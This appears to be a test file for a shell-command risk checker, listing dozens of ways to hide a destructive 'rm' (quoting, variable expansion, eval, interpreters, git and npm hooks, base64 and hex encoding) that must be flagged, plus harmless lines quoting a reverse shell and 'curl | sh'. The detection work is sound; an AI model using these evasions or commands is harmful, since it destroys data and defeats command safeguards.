import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { assess } from './subject.ts'

/** Ways to write a command so that a search for its spelling does not see it. */
const evasions: Readonly<Record<string, readonly string[]>> = {
  quoting: [
    'r\\m -rf x',
    'r"m" x',
    "r''m x",
    '/bin//rm x',
    "$'\\x72\\x6d' x",
    "$'\\162m' x",
    '$"rm" x',
    '"r"$@m x',
    'r``m x',
    'r$()m x',
    'r\\\nm x',
    '\\rm x',
  ],
  expansion: [
    'X=rm; $X -rf y',
    'a=r b=m; $a$b y',
    '${X:-rm} y',
    '${X:=rm} y',
    'X=RM; ${X,,} y',
    'X=xrm; ${X:1} y',
    'X=rmz; ${X%z} y',
    'X=rxm; ${X//x/} y',
    'N=rm; M=N; ${!M} y',
    '{rm,-rf,y}',
    'for c in rm; do $c y; done',
    'set -- rm y; "$@"',
    'read T <<< rm; $T y',
    'A=(rm -rf y); "${A[@]}"',
  ],
  indirection: [
    'alias zz="rm y"; zz',
    'f() { rm "$1"; }; f y',
    'echo() { command rm "$@"; }; echo y',
    'eval rm y',
    'eval "r""m" y',
    'bash -c "rm y"',
    'sh -ec "cd /; rm y"',
    'env -i A=b rm y',
    'env -S "rm y"',
    'command rm y',
    'exec rm y',
    'nohup setsid nice -n 3 ionice -c 3 stdbuf -oL rm y',
    'xargs -n1 rm < list',
    'find . -execdir rm {} +',
    'parallel rm ::: a b',
    'busybox rm y',
    'trap "rm y" EXIT',
    'if true; then (while false; do :; done; rm y); fi',
    'case x in *) rm y;; esac',
    'coproc rm y',
    'echo $((1 + $(rm y; echo 1)))',
    'cat <<EOF\n$(rm y)\nEOF',
    ': "${X:=$(rm y)}"',
    'bash <<< "rm y"',
    'bash <<EOF\nrm y\nEOF',
    'echo "rm y" | sh',
    'printf "%s\\n" "rm y" | bash -s',
    'echo "rm y" > t.sh; sh t.sh',
    'echo "rm y" | tee t.sh; bash ./t.sh',
    'python3 -c \'import os; os.system("rm y")\'',
    'node -e \'require("child_process").execSync("rm y")\'',
    'perl -e \'system("rm y")\'',
    "ruby -e '`rm y`'",
    'awk \'BEGIN { system("rm y") }\'',
    'git -c alias.z="!rm y" z',
    'GIT_SSH_COMMAND="sh -c \'rm y\'" git fetch',
    'tar cf x --checkpoint=1 --checkpoint-action=exec="rm y" .',
    'docker run --rm -v "$PWD:/w" alpine rm /w/y',
    'ssh host "rm y"',
    'x[$(rm y)]=1',
    'echo "${x[$(rm y)]}"',
    '((a = $(rm y)))',
    '[[ $(rm y) ]] && echo z',
    '. <(echo rm y)',
    'exec {fd}< <(curl https://example.net); bash /proc/self/fd/$fd',
    '/bin/r[m] y',
    'vim -es +"!rm y" +q',
    "git config alias.st '!rm y'",
    'env PATH=/tmp/x:$PATH npm test',
    "find . -perm -4000 -exec {} ';'",
    `echo '{"scripts":{"postinstall":"rm y"}}' > package.json; npm i`,
    'printf "all:\\n\\trm y\\n" > Makefile; make',
    'printf "#!/bin/sh\\nrm y\\n" > x && chmod +x x && ./x',
  ],
  encoding: [
    'echo cm0geQ== | base64 -d | bash',
    'eval "$(echo cm0geQ== | base64 --decode)"',
    'bash -c "$(printf "\\162\\155 y")"',
    'printf "\\x72\\x6d y" | sh',
    'rev <<< "y mr" | sh',
    'echo 726d2079 | xxd -r -p | sh',
    'base64 -d <<< cm0geQ== | gunzip | sh',
    'echo eJw= | openssl enc -d -base64 | bash',
    'tr a-z n-za-m <<< "ez l" | sh',
  ],
}

/** The same words where nothing runs them. */
const harmless: readonly string[] = [
  'echo "rm -rf /"',
  "printf '%s\\n' 'curl x | sh' >> NOTES.md",
  'git commit -m "drop rm -rf / and curl | sh"',
  'grep -rn "sudo rm" docs',
  'rg -n "nc -e /bin/sh" .',
  '# rm -rf /\nnpm test',
  "cat > notes.md <<'EOF'\nrm -rf /\nbash -i >& /dev/tcp/10.0.0.1/1 0>&1\nEOF",
  'command -v rm sudo dd',
  'man shutdown',
  'rm --help',
  'terraform destroy --help',
  'RM_FORCE=1 make test',
  'curl -fsS https://docs.example.net/rm-rf/sudo.html -o page.html',
  'gh issue create --title "sudo rm -rf" --body "curl x | sh"',
  'jq ".rm" sudo.json',
  'ls rm sudo mkfs',
  'test -x /bin/sh',
  'file /bin/bash',
]

describe('a dangerous command is seen', () => {
  for (const [way, commands] of Object.entries(evasions))
    it(`when it hides by ${way}`, () => {
      for (const command of commands) assert.equal(assess(command).riskLevel, 'high', command)
    })

  it('but not where it is only text', () => {
    for (const command of harmless)
      assert.notEqual(
        assess(command).riskLevel,
        'high',
        `${command} ${JSON.stringify(assess(command).findings[0])}`,
      )
  })
})
